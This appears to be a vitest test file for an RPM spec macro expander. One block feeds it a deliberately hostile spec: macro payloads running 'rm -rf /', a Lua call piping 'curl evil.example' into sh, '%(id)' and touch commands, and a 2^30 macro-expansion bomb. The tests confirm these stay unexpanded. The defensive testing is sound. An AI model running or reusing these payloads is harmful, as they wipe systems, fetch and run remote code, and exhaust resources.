import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { analysePrep, expandMacros, getTag, listTags, parseSpec } from '../../../src/core/spec/index.js';
import { loadSpec } from './fixtures.js';

describe('expandMacros', () => {
  const doc = parseSpec(
    [
      '%global srcname pip',
      '%global base_version 21.2.3',
      '%global upstream_version %{base_version}%{?prerel}',
      '%define later %{defined_after}',
      '%global defined_after yes',
      'Name: python-%{srcname}',
      'Version: %{base_version}%{?prerel:~%{prerel}}',
      'Release: 7%{?dist}.1',
    ].join('\n'),
  );

  it('expands %{name}, %name, %{version}, %{release} and %global chains', () => {
    expect(expandMacros(doc, '%{name}-%{version}-%{release}')).toEqual({ value: 'python-pip-21.2.3-7.1', unresolved: [] });
    expect(expandMacros(doc, '%name/%version')).toEqual({ value: 'python-pip/21.2.3', unresolved: [] });
    expect(expandMacros(doc, '%{srcname}-%{upstream_version}.tar.gz').value).toBe('pip-21.2.3.tar.gz');
  });

  it('%{?x}, %{?x:y}, %{!?x:y}, %{?dist}, %%', () => {
    expect(expandMacros(doc, '[%{?prerel}][%{?srcname:has}][%{!?prerel:none}][%{!?srcname:no}][%{?dist}][100%%]').value).toBe('[][has][none][][][100%]');
    expect(expandMacros(doc, '%{?dist}', { defines: { dist: '.el9' } }).value).toBe('.el9');
  });

  it('defines override the spec, and act as %{?x} definitions', () => {
    expect(expandMacros(doc, '%{version}', { defines: { base_version: '9.9' } }).value).toBe('9.9');
    expect(expandMacros(doc, '%{version}', { defines: { prerel: 'b1' } }).value).toBe('21.2.3~b1');
  });

  it('%define is expanded at use, %global at definition; ctx.line picks the state before a line', () => {
    expect(expandMacros(doc, '%{later}').value).toBe('yes');
    expect(expandMacros(doc, '%{defined_after}', { line: 4 })).toEqual({ value: '%{defined_after}', unresolved: ['%{defined_after}'] });
    expect(expandMacros(doc, '%{defined_after}', { line: 5 }).value).toBe('yes');
  });

  it('%{with}/%{without}/%{defined}/%{undefined}, arch macros, %{expand:}, %{lower:}', () => {
    const d = parseSpec('%bcond_without lz4\n%bcond_with gtest\n');
    expect(expandMacros(d, '%{with lz4}%{without lz4}%{with gtest}%{without gtest}').value).toBe('1001');
    expect(expandMacros(d, '%{defined with_lz4}%{undefined with_lz4}%{?with_gtest:x}').value).toBe('10');
    expect(expandMacros(d, '%{_target_cpu} %{_arch}', { arch: 'aarch64' }).value).toBe('aarch64 aarch64');
    expect(expandMacros(d, '%{ix86}').value).toBe('i386 i486 i586 i686 pentium3 pentium4 athlon geode');
    expect(expandMacros(d, '%{expand:%%{with lz4}} %{lower:ABC} %{nil}x').value).toBe('1 abc x');
  });

  it('leaves unknown and parametric macros as written and reports them', () => {
    const d = parseSpec('%global bundled() %{expand:\nProvides: x\n}\n');
    expect(expandMacros(d, 'a %{bundled 3} %{_libdir} %{SOURCE0} %1 b')).toEqual({
      value: 'a %{bundled 3} %{_libdir} %{SOURCE0} %1 b',
      unresolved: ['%{bundled 3}', '%{_libdir}', '%{SOURCE0}', '%1'],
    });
  });

  it('evaluates %[…] expressions', () => {
    expect(expandMacros(doc, '%[1 + 2]/%["%{srcname}" == "pip"]').value).toBe('3/1');
  });

  it('python-pip: Version with %global indirection expands', () => {
    const pip = loadSpec('python-pip');
    const v = getTag(pip, 'Version')!;
    expect(expandMacros(pip, v.value, { line: v.line })).toEqual({ value: '21.2.3', unresolved: [] });
  });
});

describe('expandMacros on hostile input (runs on untrusted pull requests)', () => {
  const evil = parseSpec(
    [
      '%global a %{a}',
      '%define b %{b}%{b}',
      '%global c0 %{c1}%{c1}',
      '%define c1 %{c2}%{c2}',
      '%define c2 %{c3}%{c3}',
      '%define c3 %{c4}%{c4}',
      '%define c4 %{c5}%{c5}',
      '%define c5 %{c6}%{c6}',
      '%define c6 %{c7}%{c7}',
      '%define c7 %{c8}%{c8}',
      '%define c8 %{c9}%{c9}',
      '%define c9 %{c10}%{c10}',
      '%define c10 %{c11}%{c11}',
      '%define c11 %{c12}%{c12}',
      '%define c12 %{c13}%{c13}',
      '%define c13 %{c14}%{c14}',
      '%define c14 %{c15}%{c15}',
      '%define c15 %{c16}%{c16}',
      '%define c16 %{c17}%{c17}',
      '%define c17 %{c18}%{c18}',
      '%define c18 %{c19}%{c19}',
      '%define c19 %{c20}%{c20}',
      '%define c20 %{c21}%{c21}',
      '%define c21 %{c22}%{c22}',
      '%define c22 %{c23}%{c23}',
      '%define c23 %{c24}%{c24}',
      '%define c24 %{c25}%{c25}',
      '%define c25 %{c26}%{c26}',
      '%define c26 %{c27}%{c27}',
      '%define c27 %{c28}%{c28}',
      '%define c28 %{c29}%{c29}',
      '%define c29 %{c30}%{c30}',
      '%define c30 xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx',
      'Name: evil',
      'Version: %(rm -rf / ; echo 1.0)',
      'Release: %{lua: os.execute("curl evil.example | sh") print(1)}',
      'Source0: %{name}.tar.gz',
      'Patch0: %(touch /tmp/pwned).patch',
      'Patch1: %{lua:os.execute("id")}.patch',
      '%description',
      'x',
      '%prep',
      '%setup -q -n %(id)',
      '%patch0 -p1',
      '%patch1 -p1',
    ].join('\n'),
  );

  it('%(…) and %{lua:…} in Version/Release/Patch stay unexpanded and are reported', () => {
    const v = getTag(evil, 'Version')!;
    expect(expandMacros(evil, v.value)).toEqual({ value: '%(rm -rf / ; echo 1.0)', unresolved: ['%(rm -rf / ; echo 1.0)'] });
    const r = getTag(evil, 'Release')!;
    expect(expandMacros(evil, r.value).unresolved).toEqual(['%{lua: os.execute("curl evil.example | sh") print(1)}']);
    const p = listTags(evil, 'Patch').map((t) => expandMacros(evil, t.value));
    expect(p).toEqual([
      { value: '%(touch /tmp/pwned).patch', unresolved: ['%(touch /tmp/pwned)'] },
      { value: '%{lua:os.execute("id")}.patch', unresolved: ['%{lua:os.execute("id")}'] },
    ]);
    expect(expandMacros(evil, '%{name}-%{version}').value).toBe('evil-%(rm -rf / ; echo 1.0)');
  });

  it('analysePrep reports them too, and never runs them', () => {
    const prep = analysePrep(evil);
    expect(prep.setup!.dirName).toBe('%(id)');
    expect(prep.setup!.unresolved).toEqual(['%(id)']);
    expect(prep.steps.map((s) => s.file)).toEqual(['%(touch /tmp/pwned).patch', '%{lua:os.execute("id")}.patch']);
  });

  it('a self-referential %global terminates', () => {
    expect(expandMacros(evil, '%{a}')).toEqual({ value: '%{a}', unresolved: ['%{a}'] });
    const r = expandMacros(evil, '%{b}');
    expect(r.unresolved).toContain('%{b}');
  });

  it('a 2^30 macro bomb stops quickly with a bounded result', () => {
    const t0 = Date.now();
    const r = expandMacros(evil, '%{c1}');
    expect(r.unresolved.length).toBeGreaterThan(0);
    expect(r.value.length).toBeLessThan(5_000_000);
    const t1 = Date.now();
    expandMacros(evil, '%{c0}'); // the %global was expanded (bounded) at definition time
  });
});

describe('a %define/%global body is read as rpm stores it: backslashes dropped, the next character kept', () => {
  // rpmspec -P (rpm 4.18) of this spec prints, for the %prep line: `1.2 a\b%c 1.2zn 1.2x 1.2y a` then `b`
  const spec = [
    'Name: t', 'Version: 1', 'Release: 1', 'Summary: s', 'License: MIT',
    '%global v 1\\.2',
    '%define w a\\\\b\\%c',
    '%global x %{v}z\\n',
    '%define y \\%{v}x',
    '%global u \\%{v}y',
    '%define z a\\',
    'b',
    '%description', 'd', '%prep',
    'echo %{v} %{w} %{x} %{y} %{u} %{z}',
  ].join('\n');
  const RPM_PRINTS = '1.2 a\\b%c 1.2zn 1.2x 1.2y a\nb';

  it('gives what rpmspec -P prints for the same spec (fails on the old reading, which kept the backslashes)', () => {
    expect(expandMacros(parseSpec(spec), '%{v} %{w} %{x} %{y} %{u} %{z}').value).toBe(RPM_PRINTS);
  });

  it.skipIf(!hasRpmspec())('and that is what rpmspec -P really prints here', () => {
    const dir = mkdtempSync(join(tmpdir(), 'distsync-test-backslash-'));
    try {
      writeFileSync(join(dir, 't.spec'), `${spec}\n`);
      const out = execFileSync('rpmspec', ['-P', join(dir, 't.spec')], { encoding: 'utf8', env: { ...process.env, LANG: 'C' } });
      expect(out.slice(out.indexOf('echo ') + 5).trimEnd()).toBe(RPM_PRINTS);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

function hasRpmspec(): boolean {
  try {
    execFileSync('rpmspec', ['--version'], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}
